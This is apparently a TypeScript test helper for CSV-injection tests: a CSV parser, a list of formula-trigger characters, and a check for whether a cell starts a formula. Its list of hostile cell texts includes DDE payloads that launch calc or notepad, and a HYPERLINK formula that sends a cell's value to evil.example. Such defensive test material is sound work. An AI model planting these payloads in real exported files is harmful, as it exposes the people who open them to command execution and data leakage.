// Reading back the CSVs the app writes (RFC 4180: quoted fields may hold commas, doubled quotes
// and line breaks), and texts made to start a spreadsheet formula, for the CSV-injection tests.

/** What a spreadsheet may take as the start of a formula (OWASP), and their fullwidth forms. */
export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** Texts a crafted file may hold where we write a name or an id. */
export const HOSTILE_TEXTS = [
	'=1+1',
	'+1+1',
	'-abc',
	'-1+2',
	'@SUM(A1)',
	'\t=cmd',
	'\r=cmd',
	'=HYPERLINK("http://evil.example/?x="&A1,"click")',
	"=cmd|' /C calc'!A0",
	"-2+3+cmd|' /C notepad'!A0",
	'＝1+1',
	"'=already quoted",
	'=a,b\nc',
	'plain',
	'-5',
	'+1',
	'1e5'
];

/** A number as a spreadsheet reads one (stricter than `Number`, which trims spaces and tabs). */
export function isCsvNumber(cell: string): boolean {
	return /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell);
}

/** Whether a cell read back would start a formula in a spreadsheet: a trigger first, not a number. */
export function startsFormula(cell: string): boolean {
	return FORMULA_TRIGGERS.some((t) => cell.startsWith(t)) && !isCsvNumber(cell);
}

/** Rows of cells; one trailing line break is not a row. */
export function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i]!;
		if (quoted) {
			if (ch === '"' && text[i + 1] === '"') {
				cell += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else cell += ch;
		} else if (ch === '"') quoted = true;
		else if (ch === ',') {
			row.push(cell);
			cell = '';
		} else if (ch === '\n') {
			row.push(cell);
			rows.push(row);
			row = [];
			cell = '';
		} else cell += ch;
	}
	if (cell || row.length) rows.push([...row, cell]);
	return rows;
}
